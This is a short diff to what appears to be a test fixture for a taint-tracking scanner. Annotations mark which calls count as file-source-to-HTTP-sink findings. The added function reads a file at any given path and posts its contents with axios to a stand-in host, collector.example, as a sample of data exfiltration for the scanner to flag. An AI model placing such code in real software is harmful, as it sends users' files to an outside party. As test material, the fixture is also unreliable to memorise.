@@ -1,6 +1,8 @@
 // Strings, arrays, maps, promises, events, timers, JSON and evaluated code.
 const axios = require("axios");
 const events = require("events");
+const fs = require("fs");
+const { promisify } = require("util");
 
 const U = "https://collector.example/u";
 
@@ -322,3 +324,11 @@ export function later(resolve, name) {
 }
 
 export const pause = (time) => new Promise((resolve) => setTimeout(resolve, time)); //~ ok
+
+// The form of a function that promises gives what the callback would get.
+const read = promisify(fs.readFile);
+export async function promised(path) {
+  axios.post(U, await read(path)); //~ source(FILE) f91, sink(egress.http) f91, finding(traced) f91
+  axios.post(U, await promisify(fs.readFile)(path)); //~ source(FILE) f92, sink(egress.http) f92, finding(traced) f92
+  axios.post(U, await promisify(fs.exists)(path)); //~ ok
+}
